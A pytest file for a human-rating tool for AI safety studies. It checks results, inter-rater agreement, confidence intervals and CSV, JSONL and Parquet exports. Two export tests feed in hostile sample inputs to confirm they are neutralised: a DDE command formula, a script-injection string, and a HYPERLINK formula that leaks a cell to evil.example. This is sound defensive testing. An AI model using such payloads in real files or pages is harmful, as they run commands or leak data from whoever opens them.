"""Results, IRR and exports against the statistics library on the same ratings (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
from collections import defaultdict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from safetylens.human import assignment as A
from safetylens.human.auth import create_user
from safetylens.human.db import Database
from safetylens.human.export import to_csv, to_parquet_bytes, write_export
from safetylens.human.models import Item, Prompt, Rating, Response
from safetylens.human.results import ResultOptions, compute_results
from safetylens.stats.irr import gwet_ac, violation_agreement
from safetylens.stats.vote import majority_violation

from .conftest import PASSWORD
from .helpers import make_study

FAST = ResultOptions(n_resamples=500)


def _rate_everything(db: Database, study_id: int, raters: list[Any], value: Callable[[int, int], int]) -> None:
    for k, r in enumerate(raters):
        while (res := A.next_assignment(db, study_id, r.id)) is not None:
            A.submit_rating(db, res.assignment_id, r.id, value(res.item_id, k), time_spent_ms=1000 + k)


def _table(db: Database, study_id: int) -> tuple[dict[int, dict[int, int]], dict[int, str]]:
    with db.read() as s:
        rows = s.execute(select(Rating.item_id, Rating.rater_id, Rating.value).where(Rating.study_id == study_id)).all()
        models = dict(
            s.execute(
                select(Item.id, Response.model)
                .join(Response, Response.id == Item.response_id)
                .where(Item.study_id == study_id)
            ).all()
        )
    table: dict[int, dict[int, int]] = defaultdict(dict)
    for item, rater, v in rows:
        table[item][rater] = v
    return table, models


def test_safety_results_match_the_statistics_library(db: Database) -> None:
    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(3)]
    study = make_study(db, raters, n_prompts=12, models=("alpha", "beta"), raters_per_item=3)

    def value(item_id: int, k: int) -> int:  # mostly agreeing raters, more violations for one model
        base = 2 if item_id % 3 == 0 else 4
        return max(1, min(5, base + (1 if (item_id + k) % 4 == 0 else 0) - (1 if (item_id * 7 + k) % 5 == 0 else 0)))

    _rate_everything(db, study.id, raters, value)
    res = compute_results(db, study.id, FAST)
    table, models = _table(db, study.id)
    rater_ids = sorted({r for row in table.values() for r in row})
    matrix = [[table[i].get(r) for r in rater_ids] for i in sorted(table)]

    ac2 = gwet_ac(matrix, "quadratic", categories=[1, 2, 3, 4, 5])
    ac1 = violation_agreement(matrix)
    assert res["irr"]["overall"]["ac2"]["coefficient"] == pytest.approx(ac2.coefficient, abs=1e-12)
    assert res["irr"]["overall"]["ac2"]["ci_low"] == pytest.approx(ac2.ci_low, abs=1e-12)
    assert res["irr"]["overall"]["ac2"]["weights"] == "quadratic"
    assert res["irr"]["overall"]["ac1_violation"]["coefficient"] == pytest.approx(ac1.coefficient, abs=1e-12)

    for entry in res["safety"]["models"]:
        items = [i for i in table if models[i] == entry["model"]]
        flags = [majority_violation(list(table[i].values())) for i in items]
        means = [sum(table[i].values()) / 3 for i in items]
        assert entry["items_used"] == len(items) == 12
        assert entry["violation_pct"]["value"] == pytest.approx(100 * sum(bool(f) for f in flags) / len(flags))
        assert entry["mean_rating"]["value"] == pytest.approx(sum(means) / len(means))
        est = entry["violation_pct"]
        assert est["ci_low"] <= est["value"] <= est["ci_high"] and est["n"] == 12 and est["unit"] == "%"
    assert {r["rater"] for r in res["raters"]} == {u.pseudonym for u in raters}
    assert all(r["ratings"] == 24 for r in res["raters"])
    # Other weights are a recorded option.
    linear = compute_results(db, study.id, ResultOptions(n_resamples=500, irr_weights="linear"))
    assert linear["irr"]["overall"]["ac2"]["coefficient"] == pytest.approx(
        gwet_ac(matrix, "linear", categories=[1, 2, 3, 4, 5]).coefficient
    )


def test_incomplete_items_and_ties_follow_the_stated_rule(db: Database) -> None:
    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(2)]
    study = make_study(db, raters, n_prompts=4, raters_per_item=3)  # only 2 of 3 raters exist
    _rate_everything(db, study.id, raters, lambda item, k: 1 if k == 0 else 5)  # every item ties 1 vs 1
    res = compute_results(db, study.id, FAST)
    m = res["safety"]["models"][0]
    assert (m["items_used"], m["items_incomplete"]) == (0, 4)
    assert "fewer than 3 ratings" in res["rules"]["incomplete_items"]
    res2 = compute_results(db, study.id, ResultOptions(n_resamples=500, min_ratings=2))
    assert res2["safety"]["models"][0]["items_tied"] == 4  # default: ties are undecided
    res3 = compute_results(db, study.id, ResultOptions(n_resamples=500, min_ratings=2, tie_rule="any"))
    assert res3["safety"]["models"][0]["violation_pct"]["value"] == 100.0


def test_pairwise_results_use_the_stored_ab_mapping(db: Database) -> None:
    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(3)]
    study = make_study(
        db, raters, kind="pairwise", n_prompts=20, models=("first", "second"), pairs=[("first", "second")]
    )
    with db.read() as s:
        a_model = dict(
            s.execute(
                select(Item.id, Response.model)
                .join(Response, Response.id == Item.response_id)
                .where(Item.study_id == study.id)
            ).all()
        )
    sides = list(a_model.values())
    assert 0 < sides.count("first") < len(sides)  # both sides occur

    # Every rater prefers "first" by 2 points, wherever it was shown; item 0 mod 4 is a tie.
    def value(item_id: int, k: int) -> int:
        if item_id % 4 == 0:
            return 4
        return 2 if a_model[item_id] == "first" else 6

    _rate_everything(db, study.id, raters, value)
    res = compute_results(db, study.id, FAST)
    pair = res["pairwise"]["pairs"][0]
    ties = sum(1 for i in a_model if i % 4 == 0)
    assert (pair["first"], pair["second"]) == ("first", "second")
    assert pair["win"]["value"] == pytest.approx(100 * (20 - ties) / 20)
    assert pair["tie"]["value"] == pytest.approx(100 * ties / 20)
    assert pair["loss"]["value"] == 0.0
    table, _ = _table(db, study.id)
    rater_ids = sorted({r for row in table.values() for r in row})
    matrix = [[table[i].get(r) for r in rater_ids] for i in sorted(table)]
    expected = gwet_ac(matrix, "quadratic", categories=list(range(1, 8)))
    assert res["irr"]["overall"]["ac2"]["coefficient"] == pytest.approx(expected.coefficient, abs=1e-12)


def test_exports_carry_provenance(db: Database, tmp_path: Path) -> None:
    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(3)]
    study = make_study(db, raters, kind="pairwise", n_prompts=3, models=("m1", "m2"))
    _rate_everything(db, study.id, raters, lambda item, k: 1 + (item + k) % 7)
    n = write_export(db, study.id, tmp_path / "r.jsonl")
    assert n == 9
    rows = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
    r0 = rows[0]
    for col in (
        "rater",
        "guidelines_version",
        "a_is_first",
        "model_a",
        "model_b",
        "submitted_at",
        "reserved_at",
        "time_spent_ms",
        "server_elapsed_ms",
        "label",
        "conversation",
        "batch",
        "signed_score_first_model",
    ):
        assert col in r0, col
    assert {r["rater"] for r in rows} == {u.pseudonym for u in raters}
    assert not any(u.username in json.dumps(rows) for u in raters)  # pseudonyms only
    assert all(r["guidelines_version"] == 1 for r in rows)
    for r in rows:
        assert (r["model_a"] == r["first_model"]) == r["a_is_first"]
        signed = 4 - r["value"]
        assert r["signed_score_first_model"] == (signed if r["a_is_first"] else -signed)
    write_export(db, study.id, tmp_path / "r.csv")
    parsed = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text())))
    assert len(parsed) == 9 and json.loads(parsed[0]["conversation"])[0]["role"] == "user"
    import pyarrow.parquet as pq

    write_export(db, study.id, tmp_path / "r.parquet")
    table = pq.read_table(tmp_path / "r.parquet")
    assert table.num_rows == 9 and "a_is_first" in table.column_names
    assert to_parquet_bytes([]) and to_csv([]).startswith("study,")


def test_hostile_text_survives_export(db: Database) -> None:
    from safetylens.human.export import export_rows
    from safetylens.human.importing import Record, import_records

    raters = [create_user(db, "r0", PASSWORD, "rater")]
    study = make_study(db, raters, n_prompts=0, raters_per_item=1)
    evil = '=cmd|"/c calc"!A1,\n<script>alert(1)</script>\x00'.replace("\x00", "")
    import_records(db, study.id, [Record("e1", [{"role": "user", "content": evil}], response=evil, model="m")])
    _rate_everything(db, study.id, raters, lambda i, k: 3)
    _, records = export_rows(db, study.id)
    assert records[0]["response"] == evil
    back = list(csv.DictReader(io.StringIO(to_csv(records))))
    assert back[0]["response"] == "'" + evil  # kept whole, behind the quote that keeps it text
    with db.read() as s:
        assert s.scalar(select(Prompt.conversation))[0]["content"] == evil


def test_csv_export_neutralises_formulas_in_text_and_keeps_numbers(db: Database, tmp_path: Path) -> None:
    """A rater's comment that is a formula is written as text; negative numbers stay numbers."""
    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(2)]
    study = make_study(db, raters, kind="pairwise", n_prompts=2, models=("m1", "m2"), raters_per_item=2)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    comments = iter([formula, "-0.5", "@SUM(A1:A9)", "\uff1d1+1"])
    # Both raters rate both items, one "A much better" (1), the other "B much better" (7): each
    # item then has a signed score of +3 and one of -3, whichever side the first model was shown on.
    for value, r in zip((1, 7), raters, strict=True):
        while (res := A.next_assignment(db, study.id, r.id)) is not None:
            A.submit_rating(db, res.assignment_id, r.id, value, comment=next(comments))
    write_export(db, study.id, tmp_path / "r.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text())))
    assert len(rows) == 4
    assert {r["comment"] for r in rows} == {"'" + formula, "'-0.5", "'@SUM(A1:A9)", "'\uff1d1+1"}
    assert sorted(r["signed_score_first_model"] for r in rows) == ["-3", "-3", "3", "3"]
    text_cells = [cell for r in rows for col, cell in r.items() if col != "signed_score_first_model"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\uff1d")) for cell in text_cells)


def _a_models(db: Database, study_id: int) -> dict[int, str]:
    with db.read() as s:
        return dict(
            s.execute(
                select(Item.id, Response.model)
                .join(Response, Response.id == Item.response_id)
                .where(Item.study_id == study_id)
            ).all()
        )


def test_intervals_at_the_edges_are_wilson_or_not_estimable(db: Database) -> None:
    """Unanimous results on few items: proportions keep a Wilson interval, never [100, 100] or [0, 0];
    a bootstrap or linearised-SE interval over fewer than 20 items is not estimable (with the reason)."""
    from typer.testing import CliRunner

    from safetylens.cli import app
    from safetylens.stats.ci import wilson_interval

    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(3)]
    pw = make_study(db, raters, kind="pairwise", n_prompts=2, models=("first", "second"), name="pw")
    a_model = _a_models(db, pw.id)
    _rate_everything(db, pw.id, raters, lambda item, k: 1 if a_model[item] == "first" else 7)
    pair = compute_results(db, pw.id, FAST)["pairwise"]["pairs"][0]
    lo = wilson_interval(2, 2)[0]
    assert pair["items_used"] == 2
    assert (pair["win"]["value"], pair["win"]["ci_low"], pair["win"]["ci_high"]) == pytest.approx((100, 100 * lo, 100))
    assert pair["win"]["method"] == "wilson" and pair["win"]["ci_low"] < 40
    assert (pair["loss"]["value"], pair["loss"]["ci_low"]) == (0.0, 0.0) and pair["loss"]["ci_high"] > 60

    safe = make_study(db, raters, n_prompts=2, name="safe")
    _rate_everything(db, safe.id, raters, lambda item, k: 4 + (k == 0))  # all safe; raters differ a little
    res = compute_results(db, safe.id, FAST)
    m = res["safety"]["models"][0]
    assert (m["violation_pct"]["value"], m["violation_pct"]["ci_low"]) == (0.0, 0.0)
    assert m["violation_pct"]["ci_high"] == pytest.approx(100 * wilson_interval(0, 2)[1])
    assert m["mean_rating"]["value"] == pytest.approx(13 / 3)
    assert (m["mean_rating"]["ci_low"], m["mean_rating"]["ci_high"]) == (None, None)
    assert m["mean_rating"]["ci_note"] == "n < 20"
    for coef in (res["irr"]["overall"]["ac2"], res["irr"]["overall"]["ac1_violation"]):
        assert coef["n_subjects"] == 2
        assert (coef["ci_low"], coef["ci_high"], coef["se"]) == (None, None, None)
        assert coef["ci_note"] == "n < 20"
    assert "Wilson" in res["rules"]["intervals"] and "20" in res["rules"]["intervals"]

    # The command line says so, instead of a zero-width interval.
    out = CliRunner().invoke(app, ["human", "results", "safe", "--db", db.url], catch_exceptions=False).output
    assert "[n/a: n < 20]" in out and "[0.0, 0.0]" not in out and "SE 0.000" not in out
    out = CliRunner().invoke(app, ["human", "results", "pw", "--db", db.url], catch_exceptions=False).output
    assert f"100.0% [{100 * lo:.1f}, 100.0]" in out and "[100.0, 100.0]" not in out


def test_intervals_from_twenty_items_on_are_estimated(db: Database) -> None:
    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(3)]
    study = make_study(db, raters, n_prompts=20)
    _rate_everything(db, study.id, raters, lambda item, k: 2 if (item + k) % 3 == 0 else 4)
    res = compute_results(db, study.id, FAST)
    m = res["safety"]["models"][0]
    assert m["mean_rating"]["ci_low"] is not None and "ci_note" not in m["mean_rating"]
    ac2 = res["irr"]["overall"]["ac2"]
    assert ac2["n_subjects"] == 20 and ac2["ci_low"] is not None and ac2["se"] is not None
    assert "ci_note" not in ac2


def test_agreement_with_the_majority_is_one_measure_everywhere(live: Any, people: dict[str, Any], db: Database) -> None:
    """A rater is compared with the majority of the *other* raters of each item (ties left out), and
    the results page, the rater dashboard and the CLI give the same numbers under the same name."""
    from typer.testing import CliRunner

    from safetylens.cli import app
    from safetylens.human.dashboard import rater_dashboard

    from .conftest import form_login

    raters = people["raters"]
    study = make_study(db, raters, n_prompts=4, raters_per_item=3)
    with db.read() as s:
        items = sorted(s.scalars(select(Item.id).where(Item.study_id == study.id)))
    # Items 0-1 unanimous (safe); item 2: raters 0 and 1 see a violation; item 3: rater 0 alone does.
    values = {items[0]: [4, 4, 4], items[1]: [5, 4, 5], items[2]: [1, 2, 5], items[3]: [2, 4, 5]}
    _rate_everything(db, study.id, raters, lambda item, k: values[item][k])
    # Rater 0: agrees on items 0-1, a tie among the others on item 2, against their majority on 3.
    # Rater 1: ties among the others on items 2 and 3. Rater 2: against the others on item 2; tie on 3.
    expected = {0: (2, 3), 1: (2, 2), 2: (2, 3)}

    res = compute_results(db, study.id, FAST)
    by_pseudonym = {x["rater"]: x["agreement_with_majority"] for x in res["raters"]}
    dash = {x["rater_id"]: x["agreement_with_majority"] for x in rater_dashboard(db, study.id)["raters"]}
    for k, (agree, n) in expected.items():
        for est in (by_pseudonym[raters[k].pseudonym], dash[raters[k].id]):
            assert (est["n"], est["value"]) == (n, pytest.approx(100 * agree / n)), (k, est)
    assert "other raters" in res["rules"]["agreement_with_majority"]

    label = "Agreement with the other raters' majority"
    admin, _ = form_login(live.url, "admin")
    for page in (f"/admin/studies/{study.id}/results", f"/admin/studies/{study.id}/raters"):
        text = admin.get(page).text
        assert label in text.replace("&#39;", "'"), page
    out = CliRunner().invoke(app, ["human", "results", str(study.id), "--db", db.url]).output
    assert "agreement with the other raters'" in out  # the table may wrap the header's last word
